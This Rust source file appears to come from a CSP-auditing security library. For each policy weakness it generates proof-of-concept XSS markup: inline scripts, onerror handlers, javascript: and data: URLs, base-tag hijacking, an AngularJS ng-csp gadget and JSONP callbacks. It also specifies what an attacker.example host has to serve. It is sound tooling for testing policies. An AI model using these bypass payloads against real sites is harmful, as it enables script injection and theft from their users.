//! Markup that runs under a policy, for the finding that says so.

use crate::escape;
use crate::percent;
use std::fmt;

/// What a stranger writes into a page so that his script runs under the policy that was judged.
///
/// # Guarantees
/// In a page with this policy and no other, [`html`](Self::html) runs the script that it was given, if the host that it
/// names answers with [`answer`](Self::answer).
///
/// # Does not guarantee
/// That the named host can be made to answer so: nothing here was tried over a network. What needs a host of the
/// stranger's own names `attacker.example`. An address that begins with `http:` runs in no page that came by https.
///
/// It is markup that is made to run, so it has no `Display`: show it as text, through [`escape::html`](escape::html()).
///
/// # Examples
/// ```
/// use untaint::web::csp;
///
/// let found = csp::evaluate("script-src 'unsafe-inline'");
/// let proof = found.findings().iter().find_map(|finding| finding.proof()).unwrap();
/// assert_eq!(proof.html("alert(1)"), "<script>alert(1)</script>");
/// assert!(csp::evaluate("script-src 'none'").findings().iter().all(|finding| finding.proof().is_none()));
/// ```
#[derive(Clone, PartialEq, Eq)]
pub struct Proof {
    technique: Technique,
    /// The address of the script, where it needs one.
    url: String,
}

/// How it comes to run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum Technique {
    /// A `script` element with its text.
    Inline,
    /// An event handler.
    Handler,
    /// A frame with a `javascript:` address.
    JavascriptUrl,
    /// A `script` element with a `data:` address.
    Data,
    /// A `script` element with an address of the stranger's own.
    AnyHost,
    /// A `base` element before a script of the page with a relative address.
    Base,
    /// A file that a stranger put on a listed host.
    ListedFile,
    /// A library on a listed host that runs markup as code; [`Proof::answer`] stands for what it makes of the markup.
    ListedLibrary,
    /// An endpoint of a listed host that calls the function that the address names.
    Callback,
}

impl Technique {
    /// The word for it, in lower case, as it stands in JSON.
    #[must_use]
    pub const fn word(self) -> &'static str {
        match self {
            Self::Inline => "inline",
            Self::Handler => "handler",
            Self::JavascriptUrl => "javascript_url",
            Self::Data => "data",
            Self::AnyHost => "any_host",
            Self::Base => "base",
            Self::ListedFile => "listed_file",
            Self::ListedLibrary => "listed_library",
            Self::Callback => "callback",
        }
    }
}

/// What a host has to answer for a [`Proof`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Answer {
    url: String,
    body: String,
}

impl Answer {
    /// The address that is asked for; for [`Technique::Base`] the beginning of it.
    #[must_use]
    pub fn url(&self) -> &str {
        &self.url
    }

    /// What is answered, as `text/javascript`.
    #[must_use]
    pub fn body(&self) -> &str {
        &self.body
    }
}

impl Proof {
    pub(super) fn new(technique: Technique, url: impl Into<String>) -> Self {
        Self { technique, url: url.into() }
    }

    /// How it comes to run.
    #[must_use]
    pub fn technique(&self) -> Technique {
        self.technique
    }

    /// The markup that runs `script`.
    ///
    /// # Does not guarantee
    /// Anything for a script that holds `</` or `<!--` outside its strings, where a `script` element cannot carry it.
    #[must_use]
    pub fn html(&self, script: &str) -> String {
        match self.technique {
            Technique::Inline => {
                let script = script.replace("</", "<\\/").replace("<!--", "<\\!--");
                format!("<script>{script}</script>")
            }
            Technique::Handler => format!("<img src=\"\" onerror=\"{}\">", escape::html(script)),
            Technique::JavascriptUrl => format!("<iframe src=\"javascript:{}\"></iframe>", encoded(script)),
            Technique::Data => format!("<script src=\"data:text/javascript,{}\"></script>", encoded(script)),
            Technique::Base => format!("<base href=\"{}\">", escape::html(&self.url)),
            Technique::AnyHost | Technique::ListedFile | Technique::ListedLibrary => {
                let gadget = match self.technique {
                    Technique::ListedLibrary => {
                        format!("<p ng-app ng-csp ng-init=\"{}\"></p>", escape::html(script))
                    }
                    _ => String::new(),
                };
                format!("{gadget}<script src=\"{}\"></script>", escape::html(&self.url))
            }
            Technique::Callback => format!("<script src=\"{}\"></script>", escape::html(&self.call(script))),
        }
    }

    /// What a host has to answer for it, where it needs one.
    #[must_use]
    pub fn answer(&self, script: &str) -> Option<Answer> {
        match self.technique {
            Technique::Inline | Technique::Handler | Technique::JavascriptUrl | Technique::Data => None,
            Technique::Base => {
                let folder = self.url.rfind('/').map_or(&*self.url, |slash| &self.url[..=slash]);
                Some(Answer { url: folder.to_owned(), body: script.to_owned() })
            }
            Technique::AnyHost | Technique::ListedFile | Technique::ListedLibrary => {
                Some(Answer { url: self.url.clone(), body: script.to_owned() })
            }
            Technique::Callback => {
                Some(Answer { url: self.call(script), body: format!("/**/{script}//({{}})") })
            }
        }
    }

    /// The address of a callback that calls this script.
    fn call(&self, script: &str) -> String {
        let separator = if self.url.contains('?') { '&' } else { '?' };
        format!("{}{separator}callback={}//", self.url, encoded(script))
    }
}

/// It is hostile markup: a log needs its kind only.
impl fmt::Debug for Proof {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Proof").field("technique", &self.technique).finish_non_exhaustive()
    }
}

/// Its technique, the markup that runs `alert(1)`, and the address that a host has to answer, `null` where none has to.
#[cfg(feature = "serde")]
#[cfg_attr(docsrs, doc(cfg(feature = "serde")))]
impl serde::Serialize for Proof {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        use serde::ser::SerializeStruct;
        let mut proof = serializer.serialize_struct("Proof", 3)?;
        proof.serialize_field("technique", self.technique.word())?;
        proof.serialize_field("html", &self.html("alert(1)"))?;
        let answer = self.answer("alert(1)");
        proof.serialize_field("address", &answer.as_ref().map(Answer::url))?;
        proof.end()
    }
}

fn encoded(script: &str) -> String {
    let mut out = String::new();
    percent::push(&mut out, script, |byte| {
        byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.')
    });
    out
}
